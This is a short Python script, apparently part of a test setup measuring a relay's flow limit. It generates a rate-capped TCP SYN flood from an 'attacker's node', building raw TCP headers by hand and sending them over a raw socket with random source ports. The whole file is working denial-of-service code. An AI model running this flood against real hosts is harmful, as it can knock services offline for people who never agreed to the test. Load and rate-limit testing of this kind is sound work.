"""A rate-capped TCP SYN flood from one source (run inside the attacker's node).

Raw IPv4 socket with a hand-built TCP header instead of scapy's send(): scapy manages a
few thousand packets/s, too slow to exceed a flow limit meaningfully; the rate cap keeps
the flood from starving the 2-core machine, which would measure CPU contention instead of
the relay.

    python flood.py --src A --dst B --port P --rate PPS --duration S
"""

from __future__ import annotations

import argparse
import contextlib
import random
import signal
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    seq = random.getrandbits(32)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    csum = checksum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", csum) + hdr[18:]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=443)
    ap.add_argument("--rate", type=float, default=2000)
    ap.add_argument("--duration", type=float, default=10)
    args = ap.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.bind((args.src, 0))
    sent = 0
    t0 = time.monotonic()

    def report(*_: object) -> None:  # stopped with SIGTERM at the end of a phase
        print(sent, flush=True)
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, report)
    while (now := time.monotonic()) - t0 < args.duration:
        due = int((now - t0) * args.rate)
        while sent < due:
            pkt = syn(args.src, args.dst, random.randint(1024, 65535), args.port)
            with contextlib.suppress(OSError):
                s.sendto(pkt, (args.dst, 0))
            sent += 1
        time.sleep(0.005)
    report()


if __name__ == "__main__":
    main()
